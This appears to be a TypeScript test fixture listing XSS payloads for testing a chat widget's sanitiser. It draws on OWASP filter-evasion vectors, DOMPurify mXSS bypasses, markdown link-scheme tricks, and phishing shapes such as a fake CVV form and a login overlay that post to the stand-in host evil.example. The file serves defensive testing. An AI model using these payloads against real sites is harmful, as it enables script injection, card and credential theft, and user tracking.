/**
 * XSS payloads run three ways by xss.test.ts: typed by the user, passed as a host attribute, and
 * as flow markdown. Sources: the OWASP XSS Filter Evasion Cheat Sheet, published DOMPurify mXSS
 * bypasses (2.0.0, 2.0.17, 2.2.2 namespace confusion, noscript/template), markdown link-scheme
 * vectors, and the phishing shapes a chat widget can be abused for (fake CVV forms, overlays,
 * tracking pixels). Every script payload calls `alert` (stubbed by the test) so an execution is
 * seen; every remote URL points at `evil.example`, so a request leaving the page is seen.
 */
export interface Payload {
  name: string;
  text: string;
}

export const xssCorpus: Payload[] = [
  // OWASP filter evasion
  { name: 'script tag', text: '<script>alert(1)</script>' },
  { name: 'attribute breakout', text: '"><script>alert(1)</script>' },
  { name: 'img onerror', text: '<img src=x onerror=alert(1)>' },
  { name: 'mixed-case javascript: src', text: `<IMG SRC=JaVaScRiPt:alert('XSS')>` },
  {
    name: 'decimal entity javascript:',
    text: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  },
  { name: 'svg onload', text: '<svg/onload=alert(1)>' },
  { name: 'nested script split', text: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'extra open bracket', text: '<<SCRIPT>alert("XSS");//<</SCRIPT>' },
  { name: 'body onload', text: '<body onload=alert(1)>' },
  { name: 'input autofocus onfocus', text: '<input autofocus onfocus=alert(1)>' },
  { name: 'details ontoggle', text: '<details open ontoggle=alert(1)><summary>x</summary></details>' },
  { name: 'video source onerror', text: '<video><source onerror="alert(1)"></video>' },
  { name: 'object data javascript:', text: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed remote', text: '<embed src="https://evil.example/x.swf">' },
  { name: 'meta refresh', text: '<meta http-equiv="refresh" content="0;url=https://evil.example/">' },
  { name: 'base href hijack', text: '<base href="https://evil.example/">[rel](/steal)' },
  { name: 'style import', text: `<style>@import 'https://evil.example/x.css';</style>` },
  { name: 'link stylesheet', text: '<link rel=stylesheet href=https://evil.example/x.css>' },
  {
    name: 'polyglot',
    text: `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  },
  { name: 'mailto with onclick', text: '<a href="mailto:help@example.com" onclick="alert(1)">mail</a>' },
  // DOMPurify mXSS bypasses
  { name: 'mXSS 2.0.0 svg/style', text: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  {
    name: 'mXSS 2.0.17 math/mglyph',
    text: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  },
  {
    name: 'mXSS 2.0.17 form/math',
    text: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  },
  { name: 'mXSS noscript title', text: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  {
    name: 'mXSS namespace confusion',
    text: '<math><mi><table><mi><svg><style><img src=x onerror=alert(1)></style></svg></mi></table></mi></math>',
  },
  { name: 'template content', text: '<template><img src=x onerror=alert(1)></template>' },
  { name: 'iframe srcdoc', text: '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>' },
  // Markdown link-scheme tricks
  { name: 'md javascript: link', text: '[click me](javascript:alert(1))' },
  { name: 'md mixed-case, entity-split scheme', text: '[a](JaVaScRiPt&#58;alert(1)) [b](java\tscript:alert(1))' },
  { name: 'md data: URL', text: '[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'md vbscript: and file:', text: '[v](vbscript:msgbox(1)) [f](file:///etc/passwd)' },
  { name: 'md reference-style link', text: '[pay here][x]\n\n[x]: javascript:alert(1)' },
  { name: 'md autolink', text: '<javascript:alert(1)> <https://evil.example/ok>' },
  { name: 'md link title breakout', text: '[a](https://example.com "title\\" onmouseover=\\"alert(1))' },
  { name: 'md image title breakout', text: '![a](https://evil.example/a.png "x\\" onerror=\\"alert(1))' },
  { name: 'md tracking pixel', text: '![](https://evil.example/pixel.gif?user=1)' },
  { name: 'html tracking pixel', text: '<img src="https://evil.example/pixel.gif" width="1" height="1">' },
  { name: 'protocol-relative link', text: '[home](//evil.example/login)' },
  // Phishing shapes
  {
    name: 'fake CVV form',
    text: '<form action="https://evil.example/steal" method="post"><label>CVV <input name="cvv"></label><button>Verify</button></form>',
  },
  {
    name: 'full-page overlay',
    text: '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Session expired. <a href="https://evil.example/login">Log in again</a></div>',
  },
  { name: 'target _blank without noopener', text: '<a href="https://example.com/help" target="_blank">help</a>' },
  { name: 'tel link with target', text: '<a href="tel:+8610000000" target="_top">call</a>' },
  { name: 'template injection text', text: "{{constructor.constructor('alert(1)')()}} ${alert(1)}" },
];
